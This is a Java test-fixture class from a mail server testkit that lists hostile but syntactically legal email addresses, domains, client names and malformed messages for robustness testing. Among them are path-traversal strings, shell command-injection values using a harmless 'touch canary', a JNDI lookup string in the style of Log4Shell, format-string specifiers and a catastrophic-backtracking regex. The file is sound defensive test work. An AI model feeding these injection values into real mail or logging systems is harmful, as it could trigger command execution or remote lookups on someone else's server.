// SPDX-License-Identifier: Apache-2.0
package io.postern.testkit;

import io.postern.api.mail.Client;
import io.postern.api.mail.Domain;
import io.postern.api.mail.Mailbox;
import io.postern.api.mail.Message;
import io.postern.api.mail.ReversePath;
import io.postern.api.mail.Transaction;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Addresses that are legal values and yet have broken other mail systems: what looks like a path, a
 * route, a command, a pattern.
 */
public final class HostileText {
    /** Local-parts. */
    public static final List<String> LOCAL_PARTS =
            List.of(
                    "",
                    " ",
                    ".",
                    "..",
                    "../../etc/passwd",
                    "/etc/passwd",
                    "a/b",
                    "a\\b",
                    "%2e%2e",
                    "-rf",
                    ".forward",
                    "two words",
                    "\"quoted\"",
                    "user%other.test",
                    "other.test!user",
                    "user@other.test",
                    "@a,@b:user",
                    "|touch canary",
                    "$(touch canary)",
                    "${run{touch canary}}",
                    "*",
                    "(a+)+$",
                    "__proto__",
                    "böb",
                    "\uFF0E\uFF0E",
                    "\u2028",
                    "\u202Etxt",
                    "A".repeat(64),
                    "x".repeat(300),
                    "ö".repeat(200));

    /** Whole addresses: each of the local-parts in a domain of strangers, and odd domains. */
    public static final List<Mailbox> MAILBOXES = mailboxes();

    /** Clients from everywhere, each with one of the local-parts for a name. */
    public static final List<Client> CLIENTS = clients();

    /** Messages: no header section, no body, no text at all, very much of everything. */
    public static final List<Message> MESSAGES = messages();

    private HostileText() {}

    /** The same from each of {@link #MAILBOXES}, and from nobody. */
    static List<Transaction> transactions(Transaction like) {
        List<Transaction> transactions = new ArrayList<>();
        for (ReversePath path : reversePaths()) {
            transactions.add(
                    new TestTransaction(
                            like.client(),
                            path,
                            like.recipients(),
                            like.options(),
                            like.declaredSize()));
        }
        return transactions;
    }

    /** What to call a message when it made a test fail. */
    static String beginning(Message message) {
        try (InputStream content = message.content()) {
            byte[] octets = content.readNBytes(60);
            return new String(octets, StandardCharsets.ISO_8859_1).replaceAll("\\p{Cntrl}", "?");
        } catch (IOException e) {
            return e.toString();
        }
    }

    private static List<ReversePath> reversePaths() {
        List<ReversePath> paths = new ArrayList<>(List.of(new ReversePath.Null()));
        MAILBOXES.forEach(mailbox -> paths.add(new ReversePath.Of(mailbox)));
        return paths;
    }

    private static List<Client> clients() {
        List<String> addresses = List.of("192.0.2.1", "127.0.0.1", "::1", "2001:db8::25");
        List<Client> clients = new ArrayList<>();
        for (String name : LOCAL_PARTS) {
            String address = addresses.get(clients.size() % addresses.size());
            clients.add(TestClient.from(address).saying(name));
        }
        return List.copyOf(clients);
    }

    private static List<Message> messages() {
        List<Message> messages = new ArrayList<>();
        for (String text :
                List.of(
                        "",
                        "\r\n",
                        "\r\nno header section\r\n",
                        "Subject: no body\r\n\r\n",
                        "Subject: no end of the header section",
                        "no field\r\n: no name\r\nSubject:\r\n folded\r\n\tand again\r\n\r\n",
                        "Subject: =?utf-8?B?not base64?=\r\nDate: yesterday\r\nFrom: @\r\n\r\n",
                        "Subject: ${jndi:ldap://elsewhere.test/a} %s%n\r\n\r\n%s\r\n",
                        "Subject: " + "long ".repeat(10_000) + "\r\n\r\n",
                        "Received: by elsewhere.test\r\n".repeat(2_000) + "\r\n\r\n",
                        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n--b\r\n",
                        "Content-Type: ;;;\r\nContent-Transfer-Encoding: x\r\n\r\n=ZZ\r\n",
                        "Subject: lines\r\n\r\n" + "x\r\n".repeat(50_000))) {
            messages.add(TestMessage.of(text));
        }
        byte[] octets = new byte[256];
        for (int i = 0; i < octets.length; i++) {
            octets[i] = (byte) i;
        }
        messages.add(TestMessage.of(octets));
        LOCAL_PARTS.forEach(
                part -> messages.add(TestMessage.of("Subject: " + part + "\r\n\r\n" + part)));
        return List.copyOf(messages);
    }

    private static List<Mailbox> mailboxes() {
        Domain strangers = new Domain("elsewhere.test");
        List<Mailbox> mailboxes = new ArrayList<>();
        LOCAL_PARTS.forEach(local -> mailboxes.add(new Mailbox(local, strangers)));
        List.of(
                        "[127.0.0.1]",
                        "[ipv6:::1]",
                        "[",
                        "127.0.0.1",
                        "a".repeat(63) + ".test",
                        "a".repeat(250),
                        "xn--nxasmq6b.test",
                        "../../etc",
                        "..x",
                        "*")
                .forEach(domain -> mailboxes.add(Mailbox.of("user", domain)));
        return List.copyOf(mailboxes);
    }
}
